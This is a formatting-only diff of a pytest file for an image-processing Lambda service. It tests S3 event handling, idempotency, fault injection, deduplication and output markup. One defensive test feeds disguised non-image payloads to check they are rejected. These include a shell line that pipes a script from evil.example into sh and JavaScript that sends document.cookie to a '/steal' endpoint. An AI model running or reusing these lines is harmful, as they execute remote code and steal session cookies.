@@ -1,9 +1,11 @@
 """The S3-event handler, invoked as Lambda invokes it, against moto: outcomes, idempotency, faults."""
+
 from __future__ import annotations
 
 import json
 import threading
-from typing import Any, Callable
+from collections.abc import Callable
+from typing import Any
 from urllib.parse import quote_plus
 
 import pytest
@@ -19,21 +21,30 @@ from tests.conftest import ENV, Aws, count_calls
 def s3_event(key: str, etag: str, size: int, bucket: str = ENV["INPUT_BUCKET"]) -> dict[str, Any]:
     """What S3 sends for a presigned POST: the key URL-encoded, as real S3 does."""
     return {
-        "Records": [{
-            "eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": "us-east-1",
-            "eventTime": "2026-11-24T00:00:00.000Z", "eventName": "ObjectCreated:Post",
-            "s3": {
-                "s3SchemaVersion": "1.0", "configurationId": "imgpress",
-                "bucket": {"name": bucket, "arn": f"arn:aws:s3:::{bucket}"},
-                "object": {"key": quote_plus(key), "size": size, "eTag": etag, "sequencer": "0055AED6DCD90281E5"},
-            },
-        }]
+        "Records": [
+            {
+                "eventVersion": "2.1",
+                "eventSource": "aws:s3",
+                "awsRegion": "us-east-1",
+                "eventTime": "2026-11-24T00:00:00.000Z",
+                "eventName": "ObjectCreated:Post",
+                "s3": {
+                    "s3SchemaVersion": "1.0",
+                    "configurationId": "imgpress",
+                    "bucket": {"name": bucket, "arn": f"arn:aws:s3:::{bucket}"},
+                    "object": {"key": quote_plus(key), "size": size, "eTag": etag, "sequencer": "0055AED6DCD90281E5"},
+                },
+            }
+        ]
     }
 
 
 def new_upload(client: Client, content_type: str = "image/jpeg") -> str:
-    response = client.http.post("/uploads", headers={"Content-Type": "application/json"},
-                                body=json.dumps({"content_type": content_type, "filename": "f"}).encode())
+    response = client.http.post(
+        "/uploads",
+        headers={"Content-Type": "application/json"},
+        body=json.dumps({"content_type": content_type, "filename": "f"}).encode(),
+    )
     return str(json.loads(response.body)["id"])
 
 
@@ -57,7 +68,10 @@ def fail_next(client: Any, operation: str, code: str = "InternalError", status: 
     def hook(**_: Any) -> None:
         calls[0] += 1
         if calls[0] == skip + 1:
-            raise ClientError({"Error": {"Code": code, "Message": "injected"}, "ResponseMetadata": {"HTTPStatusCode": status}}, operation)
+            raise ClientError(
+                {"Error": {"Code": code, "Message": "injected"}, "ResponseMetadata": {"HTTPStatusCode": status}},
+                operation,
+            )
 
     client.meta.events.register(f"before-call.{service}.{operation}", hook)
 
@@ -69,11 +83,19 @@ def test_upload_is_processed_into_variants_with_metadata_and_one_notification(cl
 
     done = record(client, image_id)
     assert done["status"] == "done" and done["error"] is None
-    assert done["original"] == {"format": "JPEG", "width": 3000, "height": 2000, "bytes": len(data),
-                                "bucket": ENV["INPUT_BUCKET"], "key": f"uploads/{image_id}"}
+    assert done["original"] == {
+        "format": "JPEG",
+        "width": 3000,
+        "height": 2000,
+        "bytes": len(data),
+        "bucket": ENV["INPUT_BUCKET"],
+        "key": f"uploads/{image_id}",
+    }
     assert done["profile"] == "default"
     assert {n: (o["width"], o["height"], o["format"]) for n, o in done["outputs"].items()} == {
-        "web": (2048, 1365, "webp"), "thumb": (320, 213, "webp")}
+        "web": (2048, 1365, "webp"),
+        "thumb": (320, 213, "webp"),
+    }
     assert done["savings"]["bytes"] == len(data) - done["outputs"]["web"]["bytes"] and done["savings"]["percent"] > 50
     assert aws.output_keys() == [f"processed/{image_id}/thumb.webp", f"processed/{image_id}/web.webp"]
     head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{image_id}/web.webp")
@@ -81,7 +103,10 @@ def test_upload_is_processed_into_variants_with_metadata_and_one_notification(cl
     assert head["ServerSideEncryption"] == "AES256"
     tags = aws.s3.get_object_tagging(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{image_id}/web.webp")["TagSet"]
     assert {t["Key"]: t["Value"] for t in tags} == {
-        "imgpress:variant": "web", "imgpress:profile": "default", "imgpress:source-format": "JPEG"}
+        "imgpress:variant": "web",
+        "imgpress:profile": "default",
+        "imgpress:source-format": "JPEG",
+    }
     assert head["ContentLength"] == done["outputs"]["web"]["bytes"]
     original = aws.s3.get_object(Bucket=ENV["INPUT_BUCKET"], Key=f"uploads/{image_id}")["Body"].read()
     assert original == data
@@ -120,8 +145,9 @@ def test_a_record_stuck_in_processing_after_a_crash_is_taken_over(client: Client
     image_id = new_upload(client)
     obj = aws.upload(f"uploads/{image_id}", images.jpeg())
     assert services.records().claim(image_id, obj["etag"], obj["size"], lease_seconds=300)
-    aws.table.update_item(Key={"id": image_id}, UpdateExpression="SET lease_until = :past",
-                          ExpressionAttributeValues={":past": 1})
+    aws.table.update_item(
+        Key={"id": image_id}, UpdateExpression="SET lease_until = :past", ExpressionAttributeValues={":past": 1}
+    )
     client.lambda_.invoke("handle_upload", s3_event(f"uploads/{image_id}", obj["etag"], obj["size"]))
     assert record(client, image_id)["status"] == "done"
     assert len(aws.notifications()) == 1
@@ -152,7 +178,9 @@ def test_oversize_object_fails_from_the_event_without_downloading(client: Client
     assert calls == {} and len(aws.notifications()) == 1
 
 
-@pytest.mark.parametrize("key", ["processed/abc/web.webp", "uploads/not-an-id", "uploads/a+b%20c", "uploads/" + "0" * 32])
+@pytest.mark.parametrize(
+    "key", ["processed/abc/web.webp", "uploads/not-an-id", "uploads/a+b%20c", "uploads/" + "0" * 32]
+)
 def test_keys_that_are_not_pending_uploads_are_ignored(client: Client, aws: Aws, key: str) -> None:
     aws.s3.put_object(Bucket=ENV["INPUT_BUCKET"], Key=key, Body=images.jpeg(100, 100))
     client.lambda_.invoke("handle_upload", s3_event(key, "abc", 100))
@@ -204,8 +232,15 @@ def test_transient_faults_raise_then_a_retry_completes_exactly_once(
 
 
 def test_s3_test_event_is_ignored(client: Client, aws: Aws) -> None:
-    client.lambda_.invoke("handle_upload", {"Service": "Amazon S3", "Event": "s3:TestEvent",
-                                            "Time": "2026-11-24T00:00:00.000Z", "Bucket": ENV["INPUT_BUCKET"]})
+    client.lambda_.invoke(
+        "handle_upload",
+        {
+            "Service": "Amazon S3",
+            "Event": "s3:TestEvent",
+            "Time": "2026-11-24T00:00:00.000Z",
+            "Bucket": ENV["INPUT_BUCKET"],
+        },
+    )
     assert aws.notifications() == []
 
 
@@ -261,16 +296,23 @@ def test_concurrent_duplicate_deliveries_produce_one_result(
     assert calls["PutObject"] == 2 and len(aws.notifications()) == 1
 
 
-@pytest.mark.parametrize("profile, expected", [
-    ("thumbnail200", {"thumbnail": ("jpeg", 200, 133)}),
-    ("lowres-jpeg", {"lowres": ("jpeg", 360, 240)}),
-    ("web800", {"web800": ("webp", 800, 533)}),
-    ("avatar", {"avatar": ("webp", 512, 512), "avatar-small": ("webp", 128, 128)}),
-])
-def test_the_uploads_profile_decides_the_outputs(client: Client, aws: Aws, profile: str,
-                                                 expected: dict[str, tuple[str, int, int]]) -> None:
-    response = client.http.post("/uploads", headers={"Content-Type": "application/json"},
-                                body=json.dumps({"content_type": "image/jpeg", "profile": profile}).encode())
+@pytest.mark.parametrize(
+    "profile, expected",
+    [
+        ("thumbnail200", {"thumbnail": ("jpeg", 200, 133)}),
+        ("lowres-jpeg", {"lowres": ("jpeg", 360, 240)}),
+        ("web800", {"web800": ("webp", 800, 533)}),
+        ("avatar", {"avatar": ("webp", 512, 512), "avatar-small": ("webp", 128, 128)}),
+    ],
+)
+def test_the_uploads_profile_decides_the_outputs(
+    client: Client, aws: Aws, profile: str, expected: dict[str, tuple[str, int, int]]
+) -> None:
+    response = client.http.post(
+        "/uploads",
+        headers={"Content-Type": "application/json"},
+        body=json.dumps({"content_type": "image/jpeg", "profile": profile}).encode(),
+    )
     image_id = json.loads(response.body)["id"]
     deliver(client, aws, image_id, images.jpeg(1200, 800))
     done = record(client, image_id)
@@ -297,7 +339,9 @@ def test_outputs_can_be_encrypted_with_a_kms_key(client: Client, aws: Aws, monke
 
 def upload_as(client: Client, aws: Aws, data: bytes, content_type: str, profile: str | None = None) -> str:
     body = {"content_type": content_type, **({"profile": profile} if profile else {})}
-    response = client.http.post("/uploads", headers={"Content-Type": "application/json"}, body=json.dumps(body).encode())
+    response = client.http.post(
+        "/uploads", headers={"Content-Type": "application/json"}, body=json.dumps(body).encode()
+    )
     image_id = str(json.loads(response.body)["id"])
     deliver(client, aws, image_id, data)
     return image_id
@@ -314,13 +358,17 @@ def test_an_allowed_format_declared_as_another_is_processed_and_flagged(client: 
     assert honest["type_mismatch"] is False
 
 
-@pytest.mark.parametrize("data", [
-    hostile.svg_with_script(),
-    b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
-    b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
-    b"#!/bin/sh\ncurl https://evil.example | sh\n",
-    b"(function(){fetch('/steal?c='+document.cookie)})();",
-], ids=["svg", "html", "pdf", "shell", "javascript"])
+@pytest.mark.parametrize(
+    "data",
+    [
+        hostile.svg_with_script(),
+        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
+        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
+        b"#!/bin/sh\ncurl https://evil.example | sh\n",
+        b"(function(){fetch('/steal?c='+document.cookie)})();",
+    ],
+    ids=["svg", "html", "pdf", "shell", "javascript"],
+)
 def test_documents_disguised_as_images_fail_as_unsupported_format(client: Client, aws: Aws, data: bytes) -> None:
     failed = record(client, upload_as(client, aws, data, "image/webp"))
     assert failed["status"] == "failed" and failed["error"]["code"] == "unsupported_format"
@@ -355,16 +403,20 @@ def test_dedupe_copies_outputs_server_side(client: Client, aws: Aws, monkeypatch
     twin, copy = record(client, first), record(client, second)
     assert copy["status"] == "done" and copy["deduplicated_from"] == first
     assert {n: (o["width"], o["bytes"]) for n, o in copy["outputs"].items()} == {
-        n: (o["width"], o["bytes"]) for n, o in twin["outputs"].items()}
+        n: (o["width"], o["bytes"]) for n, o in twin["outputs"].items()
+    }
     assert copy["outputs"]["web"]["key"] == f"processed/{second}/web.webp"
     copied = aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{second}/web.webp")
-    assert copied["ContentType"] == "image/webp" and copied["Body"].read() == aws.s3.get_object(
-        Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{first}/web.webp")["Body"].read()
+    assert (
+        copied["ContentType"] == "image/webp"
+        and copied["Body"].read()
+        == aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{first}/web.webp")["Body"].read()
+    )
     other_profile = record(client, upload_as(client, aws, data, "image/jpeg", profile="thumbnail200"))
     assert other_profile.get("deduplicated_from") is None
     messages = aws.notifications()
     assert [m["id"] for m in messages].count(second) == 1
-    assert [m for m in messages if m["id"] == second][0]["deduplicated_from"] == first
+    assert next(m for m in messages if m["id"] == second)["deduplicated_from"] == first
 
 
 def test_stable_output_urls_and_markup(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -376,8 +428,11 @@ def test_stable_output_urls_and_markup(client: Client, aws: Aws, monkeypatch: py
     first, again = record(client, image_id), record(client, image_id)
     web, thumb = first["outputs"]["web"], first["outputs"]["thumb"]
     assert web["url"] == f"https://cdn.example.com/processed/{image_id}/web.webp" == again["outputs"]["web"]["url"]
-    assert first["markup"] == {"width": 2048, "height": 1365,
-                               "srcset": {"webp": f"{thumb['url']} 320w, {web['url']} 2048w"}}
+    assert first["markup"] == {
+        "width": 2048,
+        "height": 1365,
+        "srcset": {"webp": f"{thumb['url']} 320w, {web['url']} 2048w"},
+    }
 
 
 def test_done_images_carry_placeholders_from_the_smallest_variant(client: Client, aws: Aws) -> None:
